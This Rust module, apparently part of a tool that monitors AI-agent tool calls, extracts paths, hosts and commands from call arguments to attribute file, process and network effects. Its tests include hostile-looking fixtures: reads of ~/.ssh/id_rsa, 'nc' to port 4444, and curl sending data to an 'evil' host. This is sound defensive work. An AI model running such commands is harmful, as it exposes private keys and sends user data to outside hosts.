//! What a call's arguments mention: the paths, hosts and commands an effect of the call can be held
//! against. Taken apart once for each call; asked for each effect.

use std::net::IpAddr;

use serde_json::Value;

use super::Object;
use crate::event::{Change, Exec, Net, Operation, Place, Privilege};
use crate::host::answers::Answers;
use crate::session::Call;

/// Most strings of one call's arguments that are looked at.
const STRINGS: usize = 256;
/// Longest string that is taken apart into words; a longer one is a document, not a command.
const WORDS_WITHIN: usize = 64 * 1024;
/// Most words of one string.
const WORDS: usize = 512;
/// Most words of all strings of a call, the strings themselves aside: each effect is held against each of them.
const WORDS_IN_ALL: usize = 1_024;
/// Deepest nesting that is looked at.
const DEPTH: usize = 32;
/// Shortest word within a text that can name a file by itself.
const SHORTEST_WORD: usize = 3;

/// The words of one call's arguments.
#[derive(Clone, Debug, Default)]
pub struct Mentions {
    paths: Vec<Mention>,
    hosts: Vec<Host>,
    /// Whole strings: what was given as a command or script.
    texts: Vec<String>,
    /// Words that stand where a command stands.
    commands: Vec<String>,
    /// Whole numbers, as text.
    numbers: Vec<String>,
}

/// A word that may name a file.
#[derive(Clone, Debug)]
struct Mention {
    /// As it was given.
    text: String,
    /// Without `file://`, `~/`, `.` and `..`: what the end of the resolved path must be.
    end: String,
    /// It began with `/`, and nothing of it was taken away.
    absolute: bool,
    /// Where the last component of `end` begins.
    name: usize,
    /// As a directory it says that what lies in it was asked for: one of a single component (`/home`), or a home,
    /// covers too much.
    has_contents: bool,
}

impl Mention {
    fn name(&self) -> &str {
        self.end.get(self.name..).unwrap_or_default()
    }

    /// Whether it names the file of a path.
    fn names(&self, path: &str) -> bool {
        if self.absolute {
            path.strip_prefix(self.end.as_str())
                .is_some_and(|rest| rest.is_empty() || (self.has_contents && rest.starts_with('/')))
        } else {
            ends_with(path, &self.end) || (self.has_contents && is_inside(path, &self.end))
        }
    }
}

/// A host that stands in an argument.
#[derive(Clone, Debug)]
struct Host {
    text: String,
    /// Lower case; an address in its usual form.
    name: String,
    address: Option<IpAddr>,
    /// The port given, or the scheme's own.
    port: Option<u16>,
}

impl Mentions {
    /// Takes the arguments of a call apart.
    #[must_use]
    pub fn of_call(call: &Call) -> Self {
        let mut mentions = Self::default();
        let mut strings = Vec::new();
        match (&call.arguments, &call.clipped) {
            (Some(arguments), _) => collect(arguments, 0, &mut strings),
            (None, Some(text)) => strings.push(text.as_str()),
            (None, None) => {}
        }
        if let Some(arguments) = &call.arguments {
            numbers(arguments, 0, &mut mentions.numbers);
        }
        let mut left = WORDS_IN_ALL;
        for text in strings {
            mentions.add(text, &mut left);
        }
        mentions
    }

    /// About what they take in memory, in bytes.
    #[must_use]
    pub fn weight(&self) -> usize {
        let texts = self.texts.iter().chain(&self.commands).chain(&self.numbers);
        let texts: usize = texts.map(|text| size_of::<String>() + text.len()).sum();
        let path = |one: &Mention| size_of::<Mention>() + one.text.len() + one.end.len();
        let host = |one: &Host| size_of::<Host>() + one.text.len() + one.name.len();
        let paths: usize = self.paths.iter().map(path).sum();
        let hosts: usize = self.hosts.iter().map(host).sum();
        size_of::<Self>() + texts + paths + hosts
    }

    /// The argument text that names the object, if one does.
    #[must_use]
    pub fn of(&self, object: Object<'_>) -> Option<&str> {
        match object {
            Object::File(open) => self.of_file(&open.path, &open.argument),
            Object::Change(change) => self.of_change(change),
            Object::Privilege(privilege, program) => self.of_privilege(privilege, program),
            Object::Process(pid) => self.of_process(pid),
            Object::Nothing => None,
            Object::Program(exec) => self.of_program(exec),
            Object::Endpoint(net, names, answers) => self.of_endpoint(net, names, answers),
            Object::Name(name) => self.of_name(name),
        }
    }

    /// Adds a string, and as many of its words as are left.
    fn add(&mut self, text: &str, left: &mut usize) {
        self.texts.push(text.to_owned());
        self.add_path(text, true);
        self.add_host(text);
        if text.len() > WORDS_WITHIN {
            return;
        }
        let mut at_command = true;
        for word in words(text).take(WORDS.min(*left)) {
            *left -= 1;
            match word {
                Word::Separator => at_command = true,
                Word::Text(word) => {
                    if at_command {
                        self.commands.push(word.to_owned());
                    }
                    // `sudo`, `env` and the like run what follows.
                    at_command =
                        at_command && matches!(word, "sudo" | "env" | "exec" | "nohup" | "time");
                    if word != text {
                        self.add_path(word, false);
                        self.add_host(word);
                    }
                    if let Some((_, value)) = word.split_once('=') {
                        self.add_path(value, false);
                        self.add_host(value);
                    }
                }
            }
        }
    }

    fn add_path(&mut self, text: &str, whole: bool) {
        let text = text.trim();
        if text.is_empty() || text.len() > 4096 || text.contains('\n') {
            return;
        }
        // A word in prose names a file only when it looks like one.
        if !whole && (text.len() < SHORTEST_WORD || !text.contains(['/', '.'])) {
            return;
        }
        let plain = text.strip_prefix("file://").unwrap_or(text);
        let mut parts: Vec<&str> = Vec::new();
        let mut climbed = false;
        for part in plain.split('/') {
            match part {
                "" | "." => {}
                "~" if parts.is_empty() => climbed = true,
                ".." => {
                    // Where this leads depends on where it starts: only what follows can be compared.
                    climbed |= parts.pop().is_none();
                }
                name => parts.push(name),
            }
        }
        if parts.is_empty() {
            return;
        }
        let absolute = plain.starts_with('/') && !climbed;
        let end = format!("/{}", parts.join("/"));
        self.paths.push(Mention {
            text: text.to_owned(),
            absolute,
            name: end.len() - parts.last().map_or(0, |name| name.len()),
            has_contents: parts.len() >= 2 && !(absolute && is_home(&end)),
            end,
        });
    }

    fn add_host(&mut self, text: &str) {
        let text = text.trim();
        if text.len() > 4096 {
            return;
        }
        if text.contains("://") {
            if let Ok(url) = url::Url::parse(text)
                && let Some(host) = url.host_str()
            {
                let name = host.trim_matches(['[', ']']).to_ascii_lowercase();
                self.hosts.push(Host {
                    text: text.to_owned(),
                    address: name.parse().ok().map(canonical),
                    name,
                    port: url.port_or_known_default(),
                });
            }
            return;
        }
        // `address`, `address:port`, `[address]:port`, `name:port`, `name.domain`.
        if let Ok(socket) = text.parse::<std::net::SocketAddr>() {
            let address = canonical(socket.ip());
            let (name, port) = (address.to_string(), Some(socket.port()));
            self.hosts.push(Host { text: text.to_owned(), name, address: Some(address), port });
        } else if let Ok(address) = text.trim_matches(['[', ']']).parse::<IpAddr>() {
            let address = canonical(address);
            let name = address.to_string();
            self.hosts.push(Host {
                text: text.to_owned(),
                name,
                address: Some(address),
                port: None,
            });
        } else if let Some((name, port)) = host_and_port(text) {
            self.hosts.push(Host { text: text.to_owned(), name, address: None, port });
        }
    }

    /// All that a change is about has to be named, but for the file beside its new name that a program
    /// writes before it puts it there.
    fn of_change(&self, change: &Change) -> Option<&str> {
        let of = |place: &Place| self.of_file(&place.path, &place.argument);
        let Some(target) = &change.target else { return of(&change.file) };
        let folder = |path: &str| path.rsplit_once('/').map_or(0, |(folder, _)| folder.len());
        let beside = change.operation == Operation::Rename
            && change.file.path.get(..=folder(&change.file.path))
                == target.path.get(..=folder(&target.path));
        if !beside {
            of(&change.file)?;
        }
        of(target)
    }

    /// A path it is about, or the program: who is told to run `mount` is told to mount.
    fn of_privilege(&self, privilege: &Privilege, program: &str) -> Option<&str> {
        let of = |place: &Option<Place>| {
            let place = place.as_ref().filter(|place| place.path.starts_with('/'))?;
            self.of_file(&place.path, &place.argument)
        };
        of(&privilege.place).or_else(|| of(&privilege.source)).or_else(|| {
            let base = program.rsplit('/').next().filter(|base| !base.is_empty())?;
            self.commands
                .iter()
                .find(|word| word.rsplit('/').next() == Some(base))
                .map(String::as_str)
        })
    }

    fn of_process(&self, pid: u32) -> Option<&str> {
        let pid = pid.to_string();
        self.numbers.iter().chain(&self.texts).find(|text| **text == pid).map(String::as_str)
    }

    fn of_file(&self, path: &str, argument: &str) -> Option<&str> {
        let names = |mention: &&Mention| {
            mention.names(path) || mention.text == argument || mention.names(argument)
        };
        // The file itself before a folder it lies in.
        let name = path.rsplit('/').next().unwrap_or_default();
        let mut like_it = self.paths.iter().filter(|mention| mention.name() == name);
        let found = like_it.find(names).or_else(|| self.paths.iter().find(names));
        found.map(|mention| mention.text.as_str())
    }

    fn of_program(&self, exec: &Exec) -> Option<&str> {
        // `sh -c COMMAND`: the command was asked for, not the shell.
        if let [_, flag, command, ..] = exec.argv.as_slice()
            && matches!(flag.as_str(), "-c" | "-e" | "-lc" | "-ic" | "/c" | "-Command")
        {
            let command = command.trim();
            return self
                .texts
                .iter()
                .find(|text| {
                    let text = text.trim();
                    text == command
                        || (command.len() >= SHORTEST_WORD && text.contains(command))
                        || (text.contains(char::is_whitespace)
                            && command.contains(text)
                            && text.len() * 2 >= command.len())
                })
                .map(String::as_str);
        }
        let base = |path: &str| path.rsplit('/').next().unwrap_or(path).to_owned();
        let first = exec.argv.first().map(|word| base(word));
        let program = base(&exec.path);
        self.commands
            .iter()
            .find(|word| {
                let word = base(word);
                word == program || Some(&word) == first.as_ref()
            })
            .map(String::as_str)
            .or_else(|| {
                self.paths
                    .iter()
                    .find(|mention| mention.absolute && mention.end == exec.path)
                    .map(|mention| mention.text.as_str())
            })
    }

    fn of_name(&self, name: &str) -> Option<&str> {
        let named =
            |host: &&Host| host.address.is_none() && host.name.trim_end_matches('.') == name;
        self.hosts.iter().find(named).map(|host| host.text.as_str())
    }

    fn of_endpoint(&self, net: &Net, names: &[String], answers: &Answers) -> Option<&str> {
        if let Some(path) = &net.unix_path {
            return self
                .paths
                .iter()
                .find(|mention| !path.is_empty() && (mention.text == *path || mention.end == *path))
                .map(|mention| mention.text.as_str());
        }
        let endpoint = net.endpoint?;
        self.hosts
            .iter()
            .find(|host| {
                if host.port.is_some_and(|port| port != endpoint.port() && endpoint.port() != 0) {
                    return false;
                }
                match host.address {
                    Some(address) => address == endpoint.ip(),
                    None if names.is_empty() => {
                        // Nothing tells what the name resolved to: a call that names a host with this
                        // port is taken at its word, but never for the loopback or a link, and not when
                        // the name is known to lead elsewhere.
                        host.port.is_some()
                            && !is_local(endpoint.ip())
                            && !answers.resolves(host.name.trim_end_matches('.'))
                    }
                    None => names.iter().any(|name| name.eq_ignore_ascii_case(&host.name)),
                }
            })
            .map(|host| host.text.as_str())
    }
}

/// Every string of a value, keys left out.
fn collect<'a>(value: &'a Value, depth: usize, out: &mut Vec<&'a str>) {
    if depth > DEPTH || out.len() >= STRINGS {
        return;
    }
    match value {
        Value::String(text) => out.push(text),
        Value::Array(items) => items.iter().for_each(|item| collect(item, depth + 1, out)),
        Value::Object(fields) => fields.values().for_each(|item| collect(item, depth + 1, out)),
        _ => {}
    }
}

/// Every whole number of a value.
fn numbers(value: &Value, depth: usize, out: &mut Vec<String>) {
    if depth > DEPTH || out.len() >= STRINGS {
        return;
    }
    match value {
        Value::Number(number) if number.is_u64() => out.push(number.to_string()),
        Value::Array(items) => items.iter().for_each(|item| numbers(item, depth + 1, out)),
        Value::Object(fields) => fields.values().for_each(|item| numbers(item, depth + 1, out)),
        _ => {}
    }
}

enum Word<'a> {
    Text(&'a str),
    /// What ends a command in a shell.
    Separator,
}

/// The words of a text, as a shell would roughly see them: quotes and brackets separate, too.
fn words(text: &str) -> impl Iterator<Item = Word<'_>> {
    let is_command_end = |c: char| matches!(c, ';' | '|' | '&' | '\n' | '(' | '`');
    let is_boundary =
        move |c: char| c.is_whitespace() || is_command_end(c) || "\"'()<>,{}$".contains(c);
    let mut rest = text;
    std::iter::from_fn(move || {
        while let Some(first) = rest.chars().next() {
            if is_command_end(first) {
                rest = rest.get(first.len_utf8()..).unwrap_or_default();
                return Some(Word::Separator);
            }
            if is_boundary(first) {
                rest = rest.get(first.len_utf8()..).unwrap_or_default();
                continue;
            }
            let end = rest.find(is_boundary).unwrap_or(rest.len());
            let (word, after) = rest.split_at_checked(end)?;
            rest = after;
            return Some(Word::Text(word.trim_end_matches(['.', ':', '?', '!'])));
        }
        None
    })
}

/// A home itself: asking for it is not asking for every file in it.
fn is_home(directory: &str) -> bool {
    directory == "/root"
        || ["/home/", "/Users/"].iter().any(|homes| {
            directory
                .strip_prefix(homes)
                .is_some_and(|name| !name.is_empty() && !name.contains('/'))
        })
}

/// The last components of `path` are those of `end` (which begins with `/`).
fn ends_with(path: &str, end: &str) -> bool {
    path.ends_with(end) || Some(path) == end.strip_prefix('/')
}

/// A relative directory of at least two components was given, and `path` lies in it.
fn is_inside(path: &str, end: &str) -> bool {
    path.match_indices(end)
        .any(|(at, _)| path.get(at + end.len()..).is_some_and(|rest| rest.starts_with('/')))
}

fn canonical(address: IpAddr) -> IpAddr {
    address.to_canonical()
}

fn is_local(address: IpAddr) -> bool {
    match address {
        IpAddr::V4(v4) => v4.is_loopback() || v4.is_link_local(),
        IpAddr::V6(v6) => v6.is_loopback() || v6.is_unicast_link_local(),
    }
}

/// `name.domain` or `name:port`.
fn host_and_port(text: &str) -> Option<(String, Option<u16>)> {
    let (name, port) = match text.rsplit_once(':') {
        Some((name, port)) => (name, Some(port.parse::<u16>().ok()?)),
        None => (text, None),
    };
    let valid = !name.is_empty()
        && name.len() <= 253
        && name.chars().all(|c| c.is_ascii_alphanumeric() || matches!(c, '-' | '.' | '_'))
        && (name.contains('.') || port.is_some())
        && name.chars().any(|c| c.is_ascii_alphabetic());
    valid.then(|| (name.to_ascii_lowercase(), port))
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;
    use crate::event::{Direction, NetOperation, Open, ProcessKey};

    fn mentions(arguments: Value) -> Mentions {
        Mentions::of_call(&Call {
            number: 1,
            id: json!(1),
            method: "tools/call".into(),
            tool: None,
            prompt: None,
            annotations: crate::session::Annotations::default(),
            arguments: Some(arguments),
            clipped: None,
            direction: Direction::ClientToServer,
            session: None,
            started: 0,
            request_bytes: 0,
        })
    }

    fn file(path: &str, argument: &str) -> Open {
        Open {
            flags: 0,
            mode: 0,
            inode: 0,
            device: 0,
            result: Ok(3),
            result_unknown: false,
            path: path.into(),
            argument: argument.into(),
            inner_path: None,
            mount_namespace: 0,
            host_path: None,
            unlinked: false,
            via: None,
        }
    }

    fn place(path: &str) -> Place {
        Place { path: path.into(), argument: path.into(), ..Place::default() }
    }

    #[test]
    fn many_strings_of_many_words_stay_bounded() {
        let text = "a.b/c ".repeat(512);
        let mentions = mentions(json!({"list": vec![text.as_str(); 200]}));
        let most = WORDS_IN_ALL + STRINGS;
        assert!(mentions.paths.len() <= most, "{}", mentions.paths.len());
        assert!(mentions.hosts.len() <= most && mentions.commands.len() <= most);
        // Whole strings are looked at whatever came before.
        let mut list = vec![text.as_str(); 200];
        list.push("/home/me/notes.txt");
        let mentions = self::mentions(json!({"list": list}));
        assert!(mentions.of_file("/home/me/notes.txt", "").is_some());
    }

    #[test]
    fn changes_of_two_files_are_named_by_both() {
        for (arguments, from, to, expected) in [
            (json!({"from": "/w/a", "to": "/w/b"}), "/w/a", "/w/b", true),
            (json!({"from": "/w/a", "to": "/v/b"}), "/w/a", "/v/b", true),
            // The new content of a file, put in its place.
            (json!({"path": "/w/b"}), "/w/b.tmp1", "/w/b", true),
            (json!({"path": "/w/b"}), "/w/b", "/w/b.old", false),
            (json!({"path": "/w/a"}), "/w/a", "/home/me/.bashrc", false),
            (json!({"path": "/tmp/out"}), "/home/me/.ssh/id_rsa", "/tmp/out", false),
            (json!({"path": "/b"}), "/tmp1", "/b", true),
        ] {
            let change = Change {
                operation: Operation::Rename,
                exchange: false,
                file: place(from),
                target: Some(place(to)),
                mode: None,
                owner: (None, None),
                size: None,
                via: None,
                result: Ok(()),
                result_unknown: false,
            };
            let found = mentions(arguments.clone());
            let named = found.of(Object::Change(&change)).is_some();
            assert_eq!(named, expected, "{arguments} {from} {to}");
        }
    }

    #[test]
    fn a_file_is_named_before_the_folder_it_lies_in() {
        let found = mentions(json!({"folder": "/srv/r", "file": "/srv/r/server.log"}));
        let matched = |path: &str| found.of(Object::File(&file(path, path))).map(str::to_owned);
        assert_eq!(matched("/srv/r/server.log").as_deref(), Some("/srv/r/server.log"));
        assert_eq!(matched("/srv/r/other.log").as_deref(), Some("/srv/r"));
    }

    #[test]
    fn paths() {
        let key = "/home/me/.ssh/id_rsa";
        for (arguments, path, argument, expected) in [
            (json!({"path": key}), key, key, true),
            (json!({"path": "~/.ssh/id_rsa"}), key, key, true),
            (json!({"path": "file:///home/me/.ssh/id_rsa"}), key, key, true),
            (json!({"path": "../../home/me/.ssh/id_rsa"}), key, key, true),
            (json!({"path": "a/../../me/.ssh/id_rsa"}), key, key, true),
            (json!({"cmd": "cat ~/.ssh/id_rsa | wc"}), key, key, true),
            (json!({"cmd": "F=~/.ssh/id_rsa; cat $F"}), key, key, true),
            (json!({"deep": {"list": ["x", {"y": key}]}}), key, key, true),
            // A symbolic link: what was opened was asked for, whatever it led to.
            (json!({"path": "/srv/notes.txt"}), key, "/srv/notes.txt", true),
            (json!({"path": "notes.txt"}), key, "/srv/notes.txt", true),
            (json!({"path": "notes.txt"}), key, "notes.txt", true),
            // Below a directory that was asked for, unless that says too much.
            (json!({"path": "/srv/data"}), "/srv/data/a/b.txt", "/srv/data/a/b.txt", true),
            (json!({"path": "/home/me"}), key, key, false),
            (json!({"path": "/home"}), key, key, false),
            (json!({"path": "/"}), key, key, false),
            (json!({"path": "/srv/dat"}), "/srv/data/b.txt", "/srv/data/b.txt", false),
            // Not asked for.
            (json!({"city": "Bern"}), key, key, false),
            (json!({"text": "my id_rsa is secret"}), key, key, false),
            (json!({"path": "/home/me/.ssh/id_rsa.pub"}), key, key, false),
            (json!({"path": "rsa"}), key, key, false),
            (json!({}), key, key, false),
        ] {
            let found = mentions(arguments.clone());
            let open = file(path, argument);
            assert_eq!(
                found.of(Object::File(&open)).is_some(),
                expected,
                "{arguments} {path} {argument}"
            );
        }
    }

    fn program(path: &str, argv: &[&str]) -> Exec {
        Exec {
            parent: ProcessKey { pid: 1, start: 1 },
            uid: 0,
            gid: 0,
            parent_instance: 0,
            candidate: false,
            watch_full: false,
            stdin_inode: None,
            stdout_inode: None,
            stdin_family: None,
            stdout_family: None,
            cgroup: 0,
            ancestors: Vec::new(),
            more_ancestors: false,
            mount_namespace: 0,
            set_user_id: false,
            set_group_id: false,
            file_capabilities: false,
            unlinked: false,
            path: path.into(),
            cwd: "/".into(),
            argv: argv.iter().map(ToString::to_string).collect(),
        }
    }

    #[test]
    fn programs() {
        let shell = |command| program("/usr/bin/dash", &["sh", "-c", command]);
        for (arguments, exec, expected) in [
            (json!({"command": "id; uname -a"}), shell("id; uname -a"), true),
            (json!({"command": "id; uname -a"}), program("/usr/bin/id", &["id"]), true),
            (json!({"command": "id; uname -a"}), program("/usr/bin/uname", &["uname", "-a"]), true),
            (json!({"command": "ls -l /srv/data"}), shell("cd /work && ls -l /srv/data"), true),
            (json!({"args": ["git", "log"]}), program("/usr/bin/git", &["git", "log"]), true),
            (json!({"city": "Paris"}), shell("curl http://evil/?Paris"), false),
            (json!({"city": "Paris"}), program("/usr/bin/id", &["id"]), false),
            (json!({"text": "what is my id"}), program("/usr/bin/id", &["id"]), false),
            (json!({"text": "use sh for this"}), shell("id"), false),
        ] {
            let found = mentions(arguments.clone());
            assert_eq!(
                found.of(Object::Program(&exec)).is_some(),
                expected,
                "{arguments} {:?}",
                exec.argv
            );
        }
    }

    #[test]
    fn hosts() {
        for (arguments, endpoint, names, expected) in [
            (json!({"url": "http://203.0.113.7:8000/x"}), "203.0.113.7:8000", &[][..], true),
            (json!({"url": "http://203.0.113.7:8000/x"}), "203.0.113.7:22", &[], false),
            (json!({"host": "203.0.113.7"}), "203.0.113.7:22", &[], true),
            (json!({"url": "http://[2001:db8::7]:80/"}), "[2001:db8::7]:80", &[], true),
            (json!({"cmd": "nc 203.0.113.7 4444"}), "203.0.113.7:4444", &[], true),
            (json!({"url": "https://example.com/a"}), "93.184.216.34:443", &["example.com"], true),
            (json!({"url": "https://example.com/a"}), "93.184.216.34:443", &["evil.test"], false),
            (json!({"url": "https://example.com/a"}), "93.184.216.34:443", &[], true),
            (json!({"url": "https://example.com/a"}), "93.184.216.34:4444", &[], false),
            (json!({"url": "http://example.com/a"}), "169.254.169.254:80", &[], false),
            (json!({"city": "Bern"}), "203.0.113.7:80", &[], false),
        ] {
            let names: Vec<String> = names.iter().map(ToString::to_string).collect();
            let net = Net {
                operation: NetOperation::Connect,
                family: 2,
                socket_type: 1,
                protocol: 6,
                endpoint: Some(endpoint.parse().unwrap()),
                other: None,
                unix_path: None,
                bound_path: None,
                result: None,
            };
            let found = mentions(arguments.clone());
            let expected_text = format!("{arguments} {endpoint} {names:?}");
            assert_eq!(
                found.of(Object::Endpoint(&net, &names, &Answers::default())).is_some(),
                expected,
                "{expected_text}"
            );
        }
    }

    #[test]
    fn hostile_arguments_stay_bounded() {
        let many: Vec<String> = (0..10_000).map(|number| format!("/p/{number}")).collect();
        assert!(mentions(json!(many)).texts.len() <= STRINGS);
        let mut deep = json!("x");
        for _ in 0..100 {
            deep = json!([deep]);
        }
        assert!(mentions(deep).texts.is_empty());
        let long = "a/b ".repeat(1 << 20);
        assert!(mentions(json!(long)).paths.len() <= WORDS + 1);
    }
}
